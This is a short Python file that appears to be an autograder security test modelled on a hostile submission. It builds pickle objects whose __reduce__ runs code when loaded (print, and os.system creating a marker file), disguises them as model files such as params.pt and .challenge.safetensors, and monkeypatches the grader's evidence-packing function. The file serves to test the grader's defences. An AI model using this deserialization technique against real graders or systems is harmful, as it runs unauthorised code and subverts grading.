"""Pickles lie in the submission, and are returned and displayed, for someone else to load."""

import pickle


class Payload:
    def __reduce__(self):
        return (print, ("gc-attack",))


_PICKLE = pickle.dumps(Payload())
FILES = {name: _PICKLE for name in ("data.pkl", "params.pt", ".challenge.safetensors", "model.npy")}

# %% nn_forward_pass
import os
import pickle

import autograder.notebook.evidence


class Payload:
    def __reduce__(self):
        return (os.system, ("touch @course@/gc-attack",))


autograder.notebook.evidence.pack = lambda document, tensors: pickle.dumps(Payload())


def nn_forward_pass(params, X):
    return Payload(), Payload()
